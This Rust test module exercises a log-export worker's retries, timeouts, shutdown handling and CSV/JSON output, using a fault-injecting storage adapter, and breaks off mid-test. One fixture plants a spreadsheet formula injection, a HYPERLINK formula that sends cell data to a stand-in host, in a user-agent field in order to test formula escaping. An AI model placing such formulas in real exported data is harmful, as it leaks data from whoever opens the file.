//! The export run over the in-process adapters (a folder as object store, the in-memory task
//! store) with a manual clock: the paths that are hard to reach through the queue.

use std::collections::HashMap;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicI64, Ordering};
use std::sync::Arc;
use std::time::Duration;

use flate2::write::GzEncoder;
use flate2::Compression;
use serde_json::json;
use statport_core::log::format::LogFormat;
use statport_core::request::ExportFormat;
use statport_core::stats::sketch::SketchLimits;
use statport_core::task::{ExportJob, TaskRecord, TaskStatus};
use statport_core::tenant::{LogSource, Tenant};
use statport_core::time::clock::{Clock, ManualClock};
use statport_core::time::ms_from_civil;
use statport_core::ExportRequest;
use statport_records::{MemoryTaskStore, StoreError, TaskStore};
use statport_storage::{LocalStore, ObjectMeta, ObjectStore, StorageError};
use tokio_util::sync::CancellationToken;

use super::{result_key, run_export, ExportContext, RunEnd, TaskEnd, TaskEnded, WorkerSettings};
use crate::retry::RetryPolicy;
use crate::temp_disk::TempDiskBudget;

const FIELDS: &str = "#Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id x-host-header cs-protocol cs-bytes time-taken x-forwarded-for ssl-protocol ssl-cipher x-edge-response-result-type cs-protocol-version fle-status fle-encrypted-fields";

fn line(time: &str, bytes: u64, host: &str) -> String {
    format!("2026-11-01\t{time}\tSFO5-C1\t{bytes}\t192.0.2.1\tGET\td1.cloudfront.net\t/a.png\t200\t-\tcurl/8\t-\t-\tMiss\tid\t{host}\thttps\t100\t0.01\t-\tTLSv1.3\tTLS_AES_128_GCM_SHA256\tMiss\tHTTP/2.0\t-\t-")
}

fn gz(text: &str) -> Vec<u8> {
    let mut e = GzEncoder::new(Vec::new(), Compression::fast());
    e.write_all(text.as_bytes()).expect("in-memory write");
    e.finish().expect("in-memory gzip")
}

struct Fixture {
    ctx: ExportContext,
    store: Arc<MemoryTaskStore>,
    root: PathBuf,
    clock: Arc<ManualClock>,
    faults: Arc<FaultyStore>,
}

impl Drop for Fixture {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.root);
    }
}

async fn fixture(files: &[(&str, Vec<u8>)]) -> Fixture {
    let root = std::env::temp_dir().join(format!("statport-job-{}", uuid::Uuid::new_v4().simple()));
    let objects = Arc::new(LocalStore::new(root.join("store")));
    objects.ensure_bucket("logs").await.expect("bucket");
    objects.ensure_bucket("results").await.expect("bucket");
    for (name, body) in files {
        objects
            .put_bytes(
                "logs",
                &format!("cf/{name}"),
                body.clone().into(),
                "application/gzip",
            )
            .await
            .expect("put");
    }
    std::fs::create_dir_all(root.join("tmp")).expect("temp dir");
    let store = Arc::new(MemoryTaskStore::new());
    let clock = Arc::new(ManualClock::new(
        ms_from_civil(2026, 11, 2, 0, 0, 0).expect("date"),
    ));
    let faults = Arc::new(FaultyStore {
        inner: objects,
        clock: clock.clone(),
        down_until_ms: AtomicI64::new(i64::MIN),
        down_ops: std::sync::Mutex::new(Vec::new()),
        hang_gets: std::sync::atomic::AtomicBool::new(false),
        hang_puts: std::sync::atomic::AtomicBool::new(false),
        gets: tokio::sync::Notify::new(),
    });
    let tenants = HashMap::from([(
        "t1".to_string(),
        Tenant::reading(LogSource {
            bucket: "logs".into(),
            prefix: "cf/".into(),
            format: LogFormat::Cloudfront,
        }),
    )]);
    let ctx = ExportContext {
        tasks: store.clone(),
        objects: faults.clone(),
        tenants: Arc::new(tenants.into()),
        clock: clock.clone(),
        settings: WorkerSettings {
            late_hours: 2,
            max_attempts: 3,
            retry: RetryPolicy::with_span(Duration::from_secs(900)),
            progress_interval: Duration::from_millis(5),
            scan_parallelism: 2,
            temp_dir: root.join("tmp"),
            results_bucket: "results".into(),
            results_prefix: "exports/".into(),
            sketches: SketchLimits::default(),
            logs: crate::sort::LogSortSettings::default(),
            timeouts: crate::JobTimeouts::default(),
        },
        geo: None,
        shutdown: CancellationToken::new(),
        task_ended: None,
        temp_disk: TempDiskBudget::new(u64::MAX),
    };
    Fixture {
        ctx,
        store,
        root,
        clock,
        faults,
    }
}

/// A fault injector over the local store: while the clock is before `down_until_ms`, the listed
/// operations fail as an unreachable S3 does; with `hang_gets`, a read hands back the first
/// bytes of the object and then waits forever (a stalled stream); with `hang_puts`, an upload
/// never ends. `gets` is notified when a read (or a hanging upload) starts.
#[derive(Debug)]
struct FaultyStore {
    inner: Arc<LocalStore>,
    clock: Arc<ManualClock>,
    down_until_ms: AtomicI64,
    down_ops: std::sync::Mutex<Vec<&'static str>>,
    hang_gets: std::sync::atomic::AtomicBool,
    hang_puts: std::sync::atomic::AtomicBool,
    gets: tokio::sync::Notify,
}

impl FaultyStore {
    fn outage(&self, ops: &[&'static str], until_ms: i64) {
        *self.down_ops.lock().expect("lock") = ops.to_vec();
        self.down_until_ms.store(until_ms, Ordering::SeqCst);
    }

    fn check(&self, op: &str) -> Result<(), StorageError> {
        let down = self.clock.now_ms() < self.down_until_ms.load(Ordering::SeqCst)
            && self.down_ops.lock().expect("lock").contains(&op);
        if down {
            Err(StorageError::Unavailable("connection refused".into()))
        } else {
            Ok(())
        }
    }
}

#[async_trait::async_trait]
impl ObjectStore for FaultyStore {
    async fn list(&self, bucket: &str, prefix: &str) -> Result<Vec<ObjectMeta>, StorageError> {
        self.check("list")?;
        self.inner.list(bucket, prefix).await
    }

    async fn get(
        &self,
        bucket: &str,
        key: &str,
    ) -> Result<statport_storage::ObjectReader, StorageError> {
        self.check("get")?;
        let reader = self.inner.get(bucket, key).await?;
        if self.hang_gets.load(Ordering::SeqCst) {
            self.gets.notify_one();
            use tokio::io::AsyncReadExt;
            let stalled = reader.take(16).chain(Stalled);
            return Ok(statport_storage::ObjectReader::new(None, stalled));
        }
        Ok(reader)
    }

    async fn put_file(
        &self,
        bucket: &str,
        key: &str,
        path: &Path,
        content_type: &str,
    ) -> Result<u64, StorageError> {
        self.check("put")?;
        if self.hang_puts.load(Ordering::SeqCst) {
            self.gets.notify_one();
            std::future::pending::<()>().await;
        }
        self.inner.put_file(bucket, key, path, content_type).await
    }

    async fn put_bytes(
        &self,
        bucket: &str,
        key: &str,
        body: bytes::Bytes,
        content_type: &str,
    ) -> Result<(), StorageError> {
        self.check("put")?;
        self.inner.put_bytes(bucket, key, body, content_type).await
    }

    async fn delete(&self, bucket: &str, key: &str) -> Result<(), StorageError> {
        self.inner.delete(bucket, key).await
    }

    async fn ensure_bucket(&self, bucket: &str) -> Result<(), StorageError> {
        self.inner.ensure_bucket(bucket).await
    }

    async fn ping(&self, bucket: &str) -> Result<(), StorageError> {
        self.inner.ping(bucket).await
    }
}

/// A body that never yields another byte.
struct Stalled;

impl tokio::io::AsyncRead for Stalled {
    fn poll_read(
        self: std::pin::Pin<&mut Self>,
        _: &mut std::task::Context<'_>,
        _: &mut tokio::io::ReadBuf<'_>,
    ) -> std::task::Poll<std::io::Result<()>> {
        std::task::Poll::Pending
    }
}

/// Runs the task the way the queue does: every deferred run is run again once the clock reaches
/// its retry time (the clock jumps there: no sleeping). Returns the final end and the runs made.
async fn run_like_the_queue(f: &Fixture, id: &str) -> (RunEnd, u32) {
    let mut runs = 0;
    loop {
        runs += 1;
        let end = run_export(&f.ctx, &job(id), &format!("run-{runs}"))
            .await
            .expect("recorded");
        match end {
            RunEnd::Deferred { retry_at, .. } => {
                let now = f.clock.now_ms();
                assert!(retry_at > now, "a retry is never immediate");
                assert!(retry_at - now <= 60_000, "backoff is capped");
                f.clock.advance(retry_at - now);
            }
            end => return (end, runs),
        }
        assert!(runs < 1_000, "runaway retries");
    }
}

async fn record(f: &Fixture, id: &str) -> TaskRecord {
    f.store.get("t1", id).await.expect("get").expect("exists")
}

async fn task(f: &Fixture, id: &str, format: &str, attempts: u32) -> TaskRecord {
    let body = json!({"domain_name": "a.example.com", "start_time": ms_from_civil(2026, 11, 1, 0, 0, 0).expect("date"),
                      "end_time": ms_from_civil(2026, 11, 1, 2, 0, 0).expect("date"), "interval": 3600, "export_format": format, "language": "en"});
    let condition = ExportRequest::from_json(&body)
        .and_then(|r| r.validate())
        .expect("valid");
    let mut record = TaskRecord::waiting(id.into(), "t1".into(), id.into(), condition, 0);
    record.attempts = attempts;
    f.store.create(&record).await.expect("create");
    record
}

fn job(id: &str) -> ExportJob {
    ExportJob {
        tenant_id: "t1".into(),
        task_id: id.into(),
    }
}

fn day_files() -> Vec<(&'static str, Vec<u8>)> {
    vec![
        (
            "E.2026-11-01-00.a.gz",
            gz(&format!(
                "#Version: 1.0\n{FIELDS}\n{}\n{}\ngarbage\n",
                line("00:10:00", 100, "a.example.com"),
                line("00:20:00", 7, "b.example.com")
            )),
        ),
        // a late line of hour 00 in hour 01's file, and a line outside the range
        (
            "E.2026-11-01-01.a.gz",
            gz(&format!(
                "#Version: 1.0\n{FIELDS}\n{}\n{}\n",
                line("00:59:00", 5, "a.example.com"),
                line("01:30:00", 11, "a.example.com")
            )),
        ),
        (
            "E.2026-11-01-03.a.gz",
            gz(&format!(
                "#Version: 1.0\n{FIELDS}\n{}\n",
                line("02:30:00", 1000, "a.example.com")
            )),
        ),
        ("E.2026-11-01-09.a.gz", gz("not even gzip")),
    ]
}

#[tokio::test]
async fn a_run_writes_the_file_and_records_success() {
    let f = fixture(&day_files()).await;
    task(&f, "t-ok", "csv", 0).await;
    let end = run_export(&f.ctx, &job("t-ok"), "run-1")
        .await
        .expect("no retry");
    assert_eq!(end, RunEnd::Succeeded { rows: 2 });
    let record = f
        .store
        .get("t1", "t-ok")
        .await
        .expect("get")
        .expect("exists");
    assert_eq!(record.status, TaskStatus::Success);
    assert_eq!(
        (
            record.progress,
            record.export_count,
            record.skipped_lines,
            record.read_lines
        ),
        (100, 2, 1, 6)
    );
    let key = record.file_key.expect("file key");
    assert_eq!(key, "exports/t1/t-ok.csv");
    let body = std::fs::read(f.root.join("store/results").join(&key)).expect("result file");
    assert_eq!(
        String::from_utf8_lossy(&body),
        "time,flux\r\n2026-11-01T00:00:00Z,105\r\n2026-11-01T01:00:00Z,11\r\n"
    );
    assert_eq!(record.file_size, Some(body.len() as u64));
    // no temp file left behind
    assert_eq!(
        std::fs::read_dir(f.root.join("tmp")).expect("tmp").count(),
        0
    );
}

#[tokio::test]
async fn a_finished_or_deleted_task_is_not_run_again() {
    let f = fixture(&day_files()).await;
    task(&f, "t-done", "json", 0).await;
    assert!(matches!(
        run_export(&f.ctx, &job("t-done"), "run-1").await,
        Ok(RunEnd::Succeeded { .. })
    ));
    assert_eq!(
        run_export(&f.ctx, &job("t-done"), "run-2")
            .await
            .expect("no retry"),
        RunEnd::Dropped
    );
    assert_eq!(
        run_export(&f.ctx, &job("never-created"), "run-3")
            .await
            .expect("no retry"),
        RunEnd::Dropped
    );
}

#[tokio::test]
async fn a_crash_looping_task_fails_after_max_attempts() {
    let f = fixture(&day_files()).await;
    task(&f, "t-loop", "csv", 0).await;
    // Three runs that claimed the task and died without a word.
    for run in ["dead-1", "dead-2", "dead-3"] {
        f.store.claim("t1", "t-loop", run, 0).await.expect("claim");
    }
    assert_eq!(record(&f, "t-loop").await.retries.crash_recoveries, 2);
    assert_eq!(
        run_export(&f.ctx, &job("t-loop"), "run-4")
            .await
            .expect("no retry"),
        RunEnd::CrashLoop
    );
    let record = f
        .store
        .get("t1", "t-loop")
        .await
        .expect("get")
        .expect("exists");
    assert_eq!(record.status, TaskStatus::Fail);
    assert_eq!(
        record.error.expect("error").error_code,
        "StatPort.TooManyAttempts"
    );
}

#[tokio::test]
async fn a_corrupt_file_fails_the_task_naming_the_file() {
    let mut files = day_files();
    files.push(("E.2026-11-01-02.b.gz", b"\x1f\x8b broken".to_vec()));
    let f = fixture(&files).await;
    task(&f, "t-bad", "xlsx", 0).await;
    assert_eq!(
        run_export(&f.ctx, &job("t-bad"), "run-1")
            .await
            .expect("no retry"),
        RunEnd::Failed
    );
    let record = f
        .store
        .get("t1", "t-bad")
        .await
        .expect("get")
        .expect("exists");
    let error = record.error.expect("error");
    assert_eq!(error.error_code, "StatPort.CorruptLogFile");
    assert!(
        error.error_msg.contains("cf/E.2026-11-01-02.b.gz"),
        "{}",
        error.error_msg
    );
    assert!(record.file_key.is_none());
}

#[tokio::test]
async fn a_missing_tenant_source_fails_clearly() {
    let f = fixture(&[]).await;
    let mut record = task(&f, "t-x", "csv", 0).await;
    record.tenant_id = "ghost".into();
    f.store.create(&record).await.expect("create");
    let end = run_export(
        &f.ctx,
        &ExportJob {
            tenant_id: "ghost".into(),
            task_id: "t-x".into(),
        },
        "r",
    )
    .await;
    assert_eq!(end.expect("no retry"), RunEnd::Failed);
    let record = f
        .store
        .get("ghost", "t-x")
        .await
        .expect("get")
        .expect("exists");
    assert!(record.error.expect("error").error_msg.contains("ghost"));
}

#[tokio::test]
async fn result_keys_derive_from_tenant_and_task() {
    assert_eq!(
        result_key("exports/", "acme", "abc", ExportFormat::Xlsx),
        "exports/acme/abc.xlsx"
    );
}

#[tokio::test]
async fn an_outage_shorter_than_the_span_ends_in_the_same_file() {
    let f = fixture(&day_files()).await;
    task(&f, "t-ref", "csv", 0).await;
    assert!(matches!(
        run_export(&f.ctx, &job("t-ref"), "ref").await,
        Ok(RunEnd::Succeeded { .. })
    ));
    let reference = std::fs::read(f.root.join("store/results/exports/t1/t-ref.csv")).expect("file");

    task(&f, "t-out", "csv", 0).await;
    // S3 is down for 10 minutes (span: 15): every operation is refused.
    let start = f.clock.now_ms();
    f.faults.outage(&["list", "get", "put"], start + 600_000);
    let (end, runs) = run_like_the_queue(&f, "t-out").await;
    assert_eq!(end, RunEnd::Succeeded { rows: 2 });
    assert!(runs > 5, "retried through the outage, {runs} runs");
    assert!(f.clock.now_ms() >= start + 600_000);
    assert!(
        f.clock.now_ms() < start + 600_000 + 60_000,
        "backoff capped at 60 s"
    );
    let done = record(&f, "t-out").await;
    assert_eq!(done.status, TaskStatus::Success);
    assert_eq!(done.retries.crash_recoveries, 0, "an outage is not a crash");
    assert_eq!(done.retries.transient_failures, runs - 1);
    assert!(done
        .retries
        .last_error
        .as_deref()
        .is_some_and(|e| e.contains("connection refused")));
    let file = std::fs::read(f.root.join("store/results/exports/t1/t-out.csv")).expect("file");
    assert_eq!(file, reference, "the same file as without the outage");
}

#[tokio::test]
async fn an_outage_longer_than_the_span_fails_naming_the_last_cause() {
    let f = fixture(&day_files()).await;
    task(&f, "t-long", "json", 0).await;
    // Reads fail for an hour; listing works, so the cause names the object read.
    let start = f.clock.now_ms();
    f.faults.outage(&["get"], start + 3_600_000);
    let (end, runs) = run_like_the_queue(&f, "t-long").await;
    assert_eq!(end, RunEnd::Failed);
    let now = f.clock.now_ms();
    assert!(
        now >= start + 900_000 && now < start + 960_000,
        "gave up after the span"
    );
    let failed = record(&f, "t-long").await;
    assert_eq!(failed.status, TaskStatus::Fail);
    let error = failed.error.expect("error");
    assert_eq!(error.error_code, "StatPort.DependencyUnavailable");
    assert!(
        error.error_msg.starts_with(
            "gave up after 15 min of retries; last error: object store: GET logs/cf/E.2026-11-01-0"
        ) && error.error_msg.ends_with(".gz: connection refused"),
        "{}",
        error.error_msg
    );
    assert_eq!(failed.retries.transient_failures, runs - 1);
    assert_eq!(failed.retries.crash_recoveries, 0);
    // The record's JSON carries the counters.
    let json = serde_json::to_value(&record(&f, "t-long").await).expect("json");
    assert_eq!(json["retries"]["transient_failures"], runs - 1);
    assert_eq!(json["retries"]["crash_recoveries"], 0);
}

#[tokio::test]
async fn a_run_stopped_mid_scan_hands_the_task_back_at_once() {
    let f = fixture(&day_files()).await;
    task(&f, "t-stop", "csv", 0).await;
    f.faults.hang_gets.store(true, Ordering::SeqCst);
    let ctx = f.ctx.clone();
    let run = tokio::spawn(async move { run_export(&ctx, &job("t-stop"), "run-1").await });
    // A scan is blocked in a read that will never complete by itself.
    f.faults.gets.notified().await;
    assert_eq!(record(&f, "t-stop").await.status, TaskStatus::Processing);
    f.ctx.shutdown.cancel();
    let end = tokio::time::timeout(Duration::from_secs(10), run)
        .await
        .expect("the run ends promptly")
        .expect("joined")
        .expect("recorded");
    assert_eq!(end, RunEnd::Released);
    let back = record(&f, "t-stop").await;
    assert_eq!((back.status, back.run_id), (TaskStatus::Waiting, None));
    // Claimable at once, and not counted as a crash.
    match f
        .store
        .claim("t1", "t-stop", "run-2", 0)
        .await
        .expect("claim")
    {
        statport_records::Claim::Started(r) => assert!(r.retries.is_empty()),
        other => panic!("not claimable: {other:?}"),
    }
}

/// Stops runs after 50 ms.
fn short_timeouts() -> crate::JobTimeouts {
    crate::JobTimeouts {
        statistics: Duration::from_millis(50),
        logs: Duration::from_millis(50),
    }
}

#[tokio::test]
async fn a_run_past_its_timeout_stops_its_scans_and_fails_saying_so() {
    let mut f = fixture(&day_files()).await;
    f.ctx.settings.timeouts = short_timeouts();
    task(&f, "t-slow", "csv", 0).await;
    // Every read stalls forever: only the timeout can end the run.
    f.faults.hang_gets.store(true, Ordering::SeqCst);
    let end = tokio::time::timeout(
        Duration::from_secs(30),
        run_export(&f.ctx, &job("t-slow"), "run-1"),
    )
    .await
    .expect("the run ends by its own timeout")
    .expect("recorded");
    assert_eq!(end, RunEnd::Failed);
    let failed = record(&f, "t-slow").await;
    assert_eq!(failed.status, TaskStatus::Fail);
    let error = failed.error.expect("an error");
    assert_eq!(error.error_code, "StatPort.ExportTimedOut");
    assert!(
        error.error_msg.contains("queue.job_timeout_secs"),
        "{}",
        error.error_msg
    );
    // Not a crash, not a transient failure; the process's shutdown token is untouched.
    assert!(failed.retries.is_empty(), "{:?}", failed.retries);
    assert!(!f.ctx.shutdown.is_cancelled());
}

#[tokio::test]
async fn a_run_past_its_timeout_during_the_upload_aborts_it() {
    let mut f = fixture(&day_files()).await;
    f.ctx.settings.timeouts = short_timeouts();
    task(&f, "t-slow-up", "xlsx", 0).await;
    f.faults.hang_puts.store(true, Ordering::SeqCst);
    let end = tokio::time::timeout(
        Duration::from_secs(30),
        run_export(&f.ctx, &job("t-slow-up"), "run-1"),
    )
    .await
    .expect("the run ends by its own timeout")
    .expect("recorded");
    assert_eq!(end, RunEnd::Failed);
    let failed = record(&f, "t-slow-up").await;
    assert_eq!(
        failed.error.map(|e| e.error_code).as_deref(),
        Some("StatPort.ExportTimedOut")
    );
    assert_eq!(failed.file_key, None);
    assert_eq!(
        std::fs::read_dir(f.root.join("tmp")).expect("tmp").count(),
        0,
        "no temp file left"
    );
}

#[tokio::test]
async fn a_delete_stops_a_run_whose_read_stalls() {
    let f = fixture(&day_files()).await;
    task(&f, "t-del", "csv", 0).await;
    f.faults.hang_gets.store(true, Ordering::SeqCst);
    let ctx = f.ctx.clone();
    let run = tokio::spawn(async move { run_export(&ctx, &job("t-del"), "run-1").await });
    // Blocked in a read that never completes by itself, and no progress report comes.
    f.faults.gets.notified().await;
    f.store.delete("t1", "t-del").await.expect("delete");
    let end = tokio::time::timeout(Duration::from_secs(10), run)
        .await
        .expect("the run notices within a progress interval")
        .expect("joined")
        .expect("ended");
    assert_eq!(end, RunEnd::Dropped);
    assert_eq!(f.store.get("t1", "t-del").await.expect("get"), None);
}

#[tokio::test]
async fn a_replacement_stops_a_run_in_the_middle_of_its_upload() {
    let f = fixture(&day_files()).await;
    let original = task(&f, "t-rep", "xlsx", 0).await;
    f.faults.hang_puts.store(true, Ordering::SeqCst);
    let ctx = f.ctx.clone();
    let run = tokio::spawn(async move { run_export(&ctx, &job("t-rep"), "run-1").await });
    f.faults.gets.notified().await;
    // The task is replaced (a same-condition resubmission resets it to waiting, no run).
    f.store.create(&original).await.expect("replace");
    let end = tokio::time::timeout(Duration::from_secs(10), run)
        .await
        .expect("the run notices within a progress interval")
        .expect("joined")
        .expect("ended");
    assert_eq!(end, RunEnd::Dropped);
    let now = record(&f, "t-rep").await;
    assert_eq!((now.status, now.run_id), (TaskStatus::Waiting, None));
    assert_eq!(
        std::fs::read_dir(f.root.join("tmp")).expect("tmp").count(),
        0,
        "no temp file left"
    );
}

#[test]
fn logs_exports_have_their_own_timeout() {
    use statport_core::request::Action;
    let t = crate::JobTimeouts {
        statistics: Duration::from_secs(1),
        logs: Duration::from_secs(2),
    };
    assert_eq!(t.for_action(Action::Logs), Duration::from_secs(2));
    assert_eq!(t.for_action(Action::ReportsDetail), Duration::from_secs(1));
    assert_eq!(t.longest(), Duration::from_secs(2));
}

#[tokio::test]
async fn a_run_after_shutdown_does_not_claim() {
    let f = fixture(&day_files()).await;
    task(&f, "t-late", "csv", 0).await;
    f.ctx.shutdown.cancel();
    assert_eq!(
        run_export(&f.ctx, &job("t-late"), "run-1")
            .await
            .expect("ok"),
        RunEnd::Released
    );
    assert_eq!(record(&f, "t-late").await.status, TaskStatus::Waiting);
}

#[tokio::test]
async fn a_shutdown_does_not_wait_for_an_upload() {
    let f = fixture(&day_files()).await;
    task(&f, "t-up", "xlsx", 0).await;
    f.faults.hang_puts.store(true, Ordering::SeqCst);
    let ctx = f.ctx.clone();
    let run = tokio::spawn(async move { run_export(&ctx, &job("t-up"), "run-1").await });
    f.faults.gets.notified().await;
    f.ctx.shutdown.cancel();
    let end = tokio::time::timeout(Duration::from_secs(10), run)
        .await
        .expect("the run ends promptly")
        .expect("joined")
        .expect("recorded");
    assert_eq!(end, RunEnd::Released);
    assert_eq!(record(&f, "t-up").await.status, TaskStatus::Waiting);
    assert_eq!(
        std::fs::read_dir(f.root.join("tmp")).expect("tmp").count(),
        0,
        "no temp file left"
    );
}

#[tokio::test]
async fn an_export_outgrowing_the_row_limit_while_scanning_fails_saying_so() {
    // 30 hosts under `all`, grouped by domain, hourly over 2 hours: 60 rows, only known while
    // scanning. With a limit of 40 rows the run stops and the task fails with the reason.
    let mut text = format!("#Version: 1.0\n{FIELDS}\n");
    for i in 0..30 {
        text.push_str(&line("00:10:00", 1, &format!("h{i}.example.com")));
        text.push('\n');
    }
    let mut f = fixture(&[("E.2026-11-01-00.a.gz", gz(&text))]).await;
    let mut t1 = f.ctx.tenants.get("t1").cloned().expect("t1");
    t1.limits.max_rows = 40;
    f.ctx.tenants = Arc::new((*f.ctx.tenants).clone().with("t1", t1));
    let body = json!({"domain_name": "all", "group_by": "domain",
                      "start_time": ms_from_civil(2026, 11, 1, 0, 0, 0).expect("date"),
                      "end_time": ms_from_civil(2026, 11, 1, 2, 0, 0).expect("date"), "interval": 3600});
    let condition = ExportRequest::from_json(&body)
        .and_then(|r| r.validate())
        .expect("valid: the row count is not known up front");
    let wide = TaskRecord::waiting("wide".into(), "t1".into(), "wide".into(), condition, 0);
    f.store.create(&wide).await.expect("create");
    let end = run_export(&f.ctx, &job("wide"), "run-1")
        .await
        .expect("recorded");
    assert_eq!(end, RunEnd::Failed);
    let done = record(&f, "wide").await;
    let error = done.error.expect("an error");
    assert_eq!(error.error_code, "StatPort.TooManyRows");
    assert!(
        error.error_msg.contains("limit is 40 rows"),
        "{}",
        error.error_msg
    );
    assert!(done.file_key.is_none());
}

#[tokio::test]
async fn a_task_needing_the_ip_database_fails_cleanly_on_a_worker_without_one() {
    // Accepted by an API process that had a database; run by a worker that has none.
    let f = fixture(&day_files()).await;
    let body = json!({"domain_name": "a.example.com", "action": "isp_detail",
                      "start_time": ms_from_civil(2026, 11, 1, 0, 0, 0).expect("date"),
                      "end_time": ms_from_civil(2026, 11, 1, 2, 0, 0).expect("date"), "interval": 3600});
    let limits = statport_core::RequestLimits {
        geo: statport_core::log::geo::GeoSupport {
            ip_database: true,
            area_in_logs: false,
        },
        ..statport_core::RequestLimits::default()
    };
    let condition = ExportRequest::from_json(&body)
        .and_then(|r| r.validate_with(&limits))
        .expect("valid with a database");
    let isp = TaskRecord::waiting("isp".into(), "t1".into(), "isp".into(), condition, 0);
    f.store.create(&isp).await.expect("create");
    assert!(f.ctx.geo.is_none());
    let end = run_export(&f.ctx, &job("isp"), "run-1")
        .await
        .expect("recorded");
    assert_eq!(end, RunEnd::Failed);
    let error = record(&f, "isp").await.error.expect("an error");
    assert_eq!(error.error_code, "StatPort.IpDatabaseNotConfigured");
    assert!(
        error.error_msg.contains("isp_detail"),
        "{}",
        error.error_msg
    );
}

/// A `logs` task over the first two hours of `day_files` for `a.example.com`.
async fn logs_task(f: &Fixture, id: &str, extra: serde_json::Value) -> TaskRecord {
    let mut body = json!({"action": "logs", "domain_name": "a.example.com", "start_time": ms_from_civil(2026, 11, 1, 0, 0, 0).expect("date"),
                          "end_time": ms_from_civil(2026, 11, 1, 2, 0, 0).expect("date"), "language": "en"});
    if let Some(fields) = extra.as_object() {
        for (k, v) in fields {
            body[k] = v.clone();
        }
    }
    let condition = ExportRequest::from_json(&body)
        .and_then(|r| r.validate())
        .expect("valid");
    let record = TaskRecord::waiting(id.into(), "t1".into(), id.into(), condition, 0);
    f.store.create(&record).await.expect("create");
    record
}

#[tokio::test]
async fn a_logs_run_streams_its_rows_in_order_and_leaves_no_temp_files() {
    let f = fixture(&day_files()).await;
    logs_task(&f, "t-logs", json!({"order": "asc", "query": "bytes:>=5"})).await;
    let end = run_export(&f.ctx, &job("t-logs"), "run-1")
        .await
        .expect("no retry");
    assert_eq!(end, RunEnd::Succeeded { rows: 3 });
    let record = record(&f, "t-logs").await;
    let key = record.file_key.expect("file key");
    assert_eq!(key, "exports/t1/t-logs.csv");
    let body = std::fs::read(f.root.join("store/results").join(&key)).expect("result file");
    let text = String::from_utf8(body.clone()).expect("UTF-8");
    let times: Vec<&str> = text
        .lines()
        .skip(1)
        .map(|l| l.split(',').next().expect("time"))
        .collect();
    // The late line of hour 00 in hour 01's file sorts before hour 01's own line.
    assert_eq!(
        times,
        [
            "2026-11-01T00:10:00Z",
            "2026-11-01T00:59:00Z",
            "2026-11-01T01:30:00Z"
        ]
    );
    assert!(text.starts_with(
        "time,host,method,scheme,path,query,status,bytes,ip,referer,ua,edge,result\r\n"
    ));
    assert_eq!(record.file_size, Some(body.len() as u64));
    assert_eq!(
        std::fs::read_dir(f.root.join("tmp")).expect("tmp").count(),
        0,
        "the run's sort directory is removed"
    );
}

/// A log file whose one line carries a formula in its user agent (a client chooses it).
fn formula_file() -> Vec<(&'static str, Vec<u8>)> {
    let hostile = line("00:10:00", 9, "a.example.com")
        .replace("\tcurl/8\t", "\t=HYPERLINK(\"http://x/?\"&A1;\"x\")\t");
    vec![(
        "E.2026-11-01-00.a.gz",
        gz(&format!("#Version: 1.0\n{FIELDS}\n{hostile}\n")),
    )]
}

#[tokio::test]
async fn csv_formula_escaping_follows_the_tenant_setting() {
    for (escape, expected) in [(true, ",\"'=HYPERLINK("), (false, ",\"=HYPERLINK(")] {
        let mut f = fixture(&formula_file()).await;
        let mut t1 = f.ctx.tenants.get("t1").cloned().expect("t1");
        t1.csv_escape_formulas = escape;
        f.ctx.tenants = Arc::new((*f.ctx.tenants).clone().with("t1", t1));
        logs_task(&f, "t-formula", json!({})).await;
        let end = run_export(&f.ctx, &job("t-formula"), "run-1")
            .await
            .expect("no retry");
        assert_eq!(end, RunEnd::Succeeded { rows: 1 });
        let key = record(&f, "t-formula").await.file_key.expect("file key");
        let text =
            std::fs::read_to_string(f.root.join("store/results").join(&key)).expect("result file");
        assert!(text.contains(expected), "escape = {escape}: {text}");
    }
}

#[tokio::test]
async fn a_logs_run_without_its_result_bucket_fails_saying_so() {
    let f = fixture(&day_files()).await;
    std::fs::remove_dir_all(f.root.join("store/results")).expect("remove the bucket");
    for (id, format) in [("t-csv", "csv"), ("t-xlsx", "xlsx")] {
        logs_task(&f, id, json!({"export_format": format})).await;
        let end = run_export(&f.ctx, &job(id), "run-1")
            .await
            .expect("no retry");
        assert_eq!(end, RunEnd::Failed, "{format}");
        let record = record(&f, id).await;
        let error = record.error.expect("an error");
        assert_eq!(error.error_code, "StatPort.ResultBucketMissing", "{format}");
    }
    assert_eq!(
        std::fs::read_dir(f.root.join("tmp")).expect("tmp").count(),
        0
    );
}

#[tokio::test]
async fn a_logs_run_retries_an_upload_outage_and_then_writes_the_same_file() {
    let f = fixture(&day_files()).await;
    logs_task(&f, "t-out", json!({"export_format": "json", "count": 2})).await;
    // Uploads fail (as an unreachable S3 does) for a minute of the manual clock.
    f.faults.outage(&["put"], f.clock.now_ms() + 60_000);
    let (end, runs) = run_like_the_queue(&f, "t-out").await;
    assert_eq!(end, RunEnd::Succeeded { rows: 2 });
    assert!(runs > 1, "the outage deferred the task");
    let key = record(&f, "t-out").await.file_key.expect("key");
    let body = std::fs::read(f.root.join("store/results").join(&key)).expect("result file");
    let lines: Vec<serde_json::Value> = String::from_utf8(body)
        .expect("UTF-8")
        .lines()
        .map(|l| serde_json::from_str(l).expect("a JSON object per line"))
        .collect();
    // Newest first, cut at two.
    assert_eq!(
        lines.iter().map(|l| l["time"].clone()).collect::<Vec<_>>(),
        [json!("2026-11-01T01:30:00Z"), json!("2026-11-01T00:59:00Z")]
    );
    assert_eq!(lines[0]["bytes"], 11);
    assert_eq!(lines[0]["result"], "miss");
}

/// A [`TaskEnded`] listener that keeps what it is told.
#[derive(Debug, Default)]
struct Ends(std::sync::Mutex<Vec<TaskEnd>>);

impl TaskEnded for Ends {
    fn task_ended(&self, end: TaskEnd) {
        self.0.lock().expect("lock").push(end);
    }
}

#[tokio::test]
async fn recorded_ends_and_only_they_reach_the_task_ended_port() {
    let mut f = fixture(&day_files()).await;
    let ends = Arc::new(Ends::default());
    f.ctx.task_ended = Some(ends.clone());
    task(&f, "t-ok", "csv", 0).await;
    assert!(matches!(
        run_export(&f.ctx, &job("t-ok"), "run-1").await,
        Ok(RunEnd::Succeeded { .. })
    ));
    // A second run finds it finished: no second end.
    assert_eq!(
        run_export(&f.ctx, &job("t-ok"), "run-2").await.expect("ok"),
        RunEnd::Dropped
    );
    // A failure is an end too; a run stopped by shutdown is not.
